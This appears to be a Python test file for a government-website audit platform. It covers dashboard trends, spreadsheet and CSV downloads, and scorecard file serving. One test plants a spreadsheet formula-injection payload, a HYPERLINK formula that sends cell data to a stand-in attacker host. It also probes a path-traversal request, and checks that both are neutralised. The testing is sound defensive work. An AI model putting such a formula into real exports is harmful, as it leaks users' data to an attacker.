"""The office's and auditors' views over the city world (support/platform.py): the
dashboard's trend over the last bulletins, the scorecard page, and every list as a download
(CSV, XLSX) holding the rows its page shows, with no crawled text turned into a formula."""

from __future__ import annotations

import dataclasses
import io
import re

import openpyxl
from starlette.testclient import TestClient
from support.platform import JTJ_UNIT, RSJ_UNIT, SX_UNIT, sign_in

from govwatch.core.schema import open_db
from govwatch.platform.app import create_app
from govwatch.platform.lists import sparkline
from govwatch.reports.render import write_report
from govwatch.reports.scorecard import SCORECARD, build_scorecard
from govwatch.reports.settings import ReportSettings

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def trend_of(page: str, unit: str) -> tuple[list[str], str]:
    """A unit's row of the dashboard: its counts in the bulletins, oldest first, and the
    change since the one before."""
    row = re.search(rf"{unit}</a></td>(.*?)</tr>", page).group(1)
    series = re.search(r'<span class="series">(.*?)</span></td>', row).group(1)
    return (re.findall(r"<span>(\d+)</span>", series),
            re.search(r'<span class="change[^"]*">([^<]*)</span>', row).group(1))


def sheet_rows(response, sheet: str | None = None) -> list[tuple]:
    """The rows of a downloaded workbook's (first) sheet, its header first."""
    assert response.status_code == 200
    assert response.headers["content-type"] == XLSX
    assert response.headers["content-disposition"].startswith("attachment;")
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return list((book[sheet] if sheet else book.worksheets[0]).values)


def three_bulletins(settings) -> None:
    """A third bulletin after the city's two, and every unit's outstanding count in each,
    set by hand: 交通 4, 2, 3; 人社 1, 5, 0; 县政府 2, 2, 2."""
    counts = {JTJ_UNIT: (4, 2, 3), RSJ_UNIT: (1, 5, 0), SX_UNIT: (2, 2, 2)}
    db = open_db(settings.db_path)
    try:
        with db.atomic():
            db.execute("insert into bulletins select 3, '2026-10-28', scan_id, published_at, "
                       "content from bulletins where number = 2")
            for unit, by_bulletin in counts.items():
                for number, count in enumerate(by_bulletin, start=1):
                    db.execute("insert or replace into bulletin_units (bulletin, unit, new, "
                               "outstanding, overdue, unclaimed, fixed) "
                               "values (?, ?, 0, ?, 0, 0, 0)", [number, unit, count])
    finally:
        db.close()


def test_the_dashboard_shows_each_units_trend_over_the_last_bulletins(settings) -> None:
    three_bulletins(settings)
    office = TestClient(create_app(settings))
    sign_in(office, "office")
    page = office.get("/dashboard").text
    assert "第1–3期" in page and "最新通报：第3期（2026-10-28）" in page
    assert trend_of(page, JTJ_UNIT) == (["4", "2", "3"], "↑1")
    assert trend_of(page, RSJ_UNIT) == (["1", "5", "0"], "↓5")
    assert trend_of(page, SX_UNIT) == (["2", "2", "2"], "持平")
    # the sparkline is drawn on the server: 人社's 5 at the top, its 0 on the bottom line
    rsj = re.search(rf"{RSJ_UNIT}</a></td>(.*?)</tr>", page).group(1)
    assert re.search(r'<polyline points="1.0,13.8 36.0,1.0 71.0,17.0"', rsj)
    # as many bulletins as the scorecard charts (its setting): the last two
    two = dataclasses.replace(settings, report_settings=ReportSettings(trend_bulletins=2))
    office = TestClient(create_app(two))
    sign_in(office, "office")
    assert trend_of(office.get("/dashboard").text, JTJ_UNIT) == (["2", "3"], "↑1")


def test_a_sparkline_puts_zero_on_the_bottom_and_the_most_at_the_top() -> None:
    assert sparkline([0, 5, 10]) == "1.0,17.0 36.0,9.0 71.0,1.0"
    assert sparkline([0, 0]) == "1.0,17.0 71.0,17.0"  # nothing open: flat on the bottom
    assert sparkline([3]) == ""  # one bulletin: no line to draw


def test_the_dashboard_downloads_with_its_counts_and_trend(client_for) -> None:
    auditor = client_for("auditor")
    rows = sheet_rows(auditor.get("/dashboard.xlsx"), "各单位整改概览")
    assert rows[0] == ("责任单位", "未整改", "逾期（截至今日）", "未认领（通报后）", "有异议",
                       "第1期未整改", "第2期未整改", "较上期")
    # today's counts as the dashboard test states them; the bulletins' as the city's story
    assert rows[1:] == [(JTJ_UNIT, 1, 1, 0, 0, 2, 1, -1), (RSJ_UNIT, 1, 1, 1, 0, 1, 1, 0),
                        (SX_UNIT, 2, 2, 2, 0, 2, 2, 0)]
    csv = auditor.get("/dashboard.csv")
    assert csv.headers["content-type"] == "text/csv; charset=utf-8"
    assert csv.text.splitlines()[1] == f"{JTJ_UNIT},1,1,0,0,2,1,-1"


def test_the_issue_lists_download_the_rows_their_pages_show(client_for) -> None:
    office = client_for("office")
    for query, ids in ((f"?unit={SX_UNIT}", [4, 5]), ("?closed=1", [2, 3]),
                       ("", [6, 4, 5, 1])):
        page = office.get(f"/issues{query}").text
        shown = [int(i) for i in re.findall(r'href="/issues/(\d+)"', page)]
        assert sorted(shown) == sorted(ids)
        rows = sheet_rows(office.get(f"/issues.xlsx{query}"), "问题列表")
        assert rows[0][:5] == ("编号", "责任单位", "网站", "规则", "问题")
        assert [row[0] for row in rows[1:]] == shown, query  # the page's rows, its order
    closed = sheet_rows(office.get("/issues.xlsx?closed=1"))
    assert {row[7] for row in closed[1:]} == {"已整改"}  # the state as a unit reads it


def test_a_crawled_title_starting_with_equals_is_text_in_every_download(client_for,
                                                                         settings) -> None:
    title = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    db = open_db(settings.db_path)
    try:
        with db.atomic():
            db.execute("update issues set title = ? where id = 6", [title])
    finally:
        db.close()
    office = client_for("office")
    book = openpyxl.load_workbook(io.BytesIO(office.get(f"/issues.xlsx?unit={RSJ_UNIT}").content))
    cell = book["问题列表"]["E2"]
    assert cell.value == "'" + title and cell.data_type == "s"
    assert "'" + '=HYPERLINK(""http://evil' in office.get(f"/issues.csv?unit={RSJ_UNIT}").text


def test_the_scorecard_page_shows_the_reports_scorecard(client_for, settings) -> None:
    auditor = client_for("auditor")
    page = auditor.get("/scorecard").text
    db = open_db(settings.db_path)
    try:
        card = build_scorecard(db, _today(settings))
    finally:
        db.close()
    sites = re.search(r'<table class="sites[^"]*">.*?<tbody>(.*?)</tbody>', page, re.S).group(1)
    names = re.findall(r"<tr><td>\d+</td><td>([^<]+)</td>", sites)
    assert names == [row["name"] for row in card["sites"]]
    # the county's site misses its annual report: a veto, no score, 不合格; the others pass
    county = re.search(r"<tr><td>3</td>(.*?)</tr>", sites).group(1)
    assert "年度报告" in county and "不合格" in county
    assert sites.count("<td>合格</td>") == 2
    assert "合格率 66.7%" in page
    download = auditor.get("/scorecard.xlsx")
    assert [row[1] for row in sheet_rows(download, "评分汇总")[1:]] == names  # the page's rows
    assert [row[1] for row in sheet_rows(download, "单项否决")[1:]] == ["annual_report.missing"]


def test_the_scorecard_page_links_the_newest_written_files_only(client_for, settings) -> None:
    db = open_db(settings.db_path)
    try:
        card = build_scorecard(db, _today(settings))
    finally:
        db.close()
    settings.out_dir.mkdir(parents=True, exist_ok=True)
    write_report(SCORECARD, card, ["html", "xlsx"], settings.out_dir, "scorecard-2026-10-20")
    (settings.out_dir / "scorecard-2026-10-01.html").write_text("older")
    (settings.out_dir / "bulletin-002-2026-10-14.html").write_text("a bulletin")
    office = client_for("office")
    links = re.findall(r'href="/scorecard/files/([^"]+)"', office.get("/scorecard").text)
    assert links == ["scorecard-2026-10-20.html", "scorecard-2026-10-20.xlsx"]
    html = office.get("/scorecard/files/scorecard-2026-10-20.html")
    assert html.status_code == 200 and "政府网站检查评分表" in html.text
    assert html.headers["content-security-policy"].startswith("default-src 'none'")
    assert sheet_rows(office.get("/scorecard/files/scorecard-2026-10-20.xlsx"))[0][1] == "网站名称"
    # nothing else of the folder, nor beside it, is served here
    for name in ("bulletin-002-2026-10-14.html", "..%2Fgovwatch.db", "scorecard-2026-10-21.html"):
        assert office.get(f"/scorecard/files/{name}").status_code == 404


def _today(settings):
    from govwatch.platform.app import Platform

    return Platform(settings).today()
